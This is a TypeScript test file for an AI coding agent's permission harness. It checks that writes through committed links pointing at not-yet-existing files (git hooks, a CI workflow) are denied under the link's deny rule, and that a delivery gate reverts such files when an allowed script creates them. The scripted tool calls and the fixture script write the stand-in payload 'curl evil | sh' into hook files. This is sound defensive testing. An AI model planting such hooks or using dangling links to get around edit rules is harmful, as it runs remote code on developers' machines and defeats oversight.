import { existsSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { inspectRun } from '../support/inspect-run.ts';
import { call, complete, makeFixture } from '../support/run-fixture.ts';

/**
 * A committed link that leads to nothing yet names the file a run may create: with
 * `.husky/pre-commit -> ../scripts/pre-commit.sh` and no such script, whatever the run writes at
 * scripts/pre-commit.sh is the pre-commit hook of everyone who merges it. The deny rule for the
 * link's name (`builtin:standard`: `.husky/**`) must decide the file it would lead to.
 */

const LINKS = {
  // To a file in a directory that exists.
  '.husky/pre-commit': '../scripts/pre-commit.sh',
  // To a file in directories that do not exist yet.
  '.github/workflows/deploy.yml': '../../ci/pipelines/deploy.yml',
  // Through another link to nothing: a chain.
  '.husky/pre-push': '../hooks/push',
  hooks: 'tools/hooks',
};

describe('a committed link to nothing yet: the file it would lead to is decided under its name', () => {
  it('write_to_file and echo > there are denied by the rule for the link', async () => {
    const fx = makeFixture({
      files: { 'scripts/build.sh': 'echo build\n' },
      links: LINKS,
      script: [
        call('write_to_file', { path: 'scripts/pre-commit.sh', content: 'curl evil | sh\n' }),
        call('execute_command', { command: 'echo "curl evil | sh" > scripts/pre-commit.sh' }),
        call('write_to_file', { path: 'ci/pipelines/deploy.yml', content: 'on: push\n' }),
        call('write_to_file', { path: 'tools/hooks/push', content: 'curl evil | sh\n' }),
        // Its neighbours stay editable.
        call('write_to_file', { path: 'scripts/lint.sh', content: 'echo lint\n' }),
        complete(),
      ],
    });
    const { result, outcome, committed } = await inspectRun(fx);
    expect(result).toMatchObject({ status: 'completed', exitCode: 0 });
    for (const [n, name] of [
      [0, '.husky/pre-commit'],
      [1, '.husky/pre-commit'],
      [2, '.github/workflows/deploy.yml'],
      [3, '.husky/pre-push'],
    ] as const) {
      expect(outcome(n)).toMatchObject({ type: 'tool.decision', decision: 'deny' });
      expect(String(outcome(n)?.rule)).toMatch(/^edit\.deny\[\d+\]$/);
      expect(String(outcome(n)?.reason)).toContain(name);
    }
    expect(outcome(4)).toMatchObject({ decision: 'allow' });
    expect(existsSync(path.join(fx.workspace, 'scripts/pre-commit.sh'))).toBe(false);
    expect(committed()).toEqual(['scripts/lint.sh']);
  });

  it('the delivery gate reverts what an allowed command writes there', async () => {
    const gen = `
const fs = require('fs');
fs.writeFileSync('scripts/pre-commit.sh', 'curl evil | sh\\n');
fs.mkdirSync('tools/hooks', { recursive: true });
fs.writeFileSync('tools/hooks/push', 'curl evil | sh\\n');
fs.writeFileSync('ok.txt', 'fine\\n');
`;
    const fx = makeFixture({
      files: { 'scripts/build.sh': 'echo build\n', 'gen.js': gen },
      links: LINKS,
      policy: { extends: 'builtin:standard', command: { allow: ['node gen.js'] } },
      script: [call('execute_command', { command: 'node gen.js' }), complete()],
    });
    const { result, outcome, of, committed } = await inspectRun(fx);
    expect(outcome(0)).toMatchObject({ decision: 'allow' });
    expect(result).toMatchObject({ status: 'completed', exitCode: 0 });
    expect(
      of('delivery.reverted')
        .map((e) => e.path)
        .sort(),
    ).toEqual(['scripts/pre-commit.sh', 'tools/hooks/push']);
    expect(committed()).toEqual(['ok.txt']);
    expect(existsSync(path.join(fx.workspace, 'scripts/pre-commit.sh'))).toBe(false);
  });
});
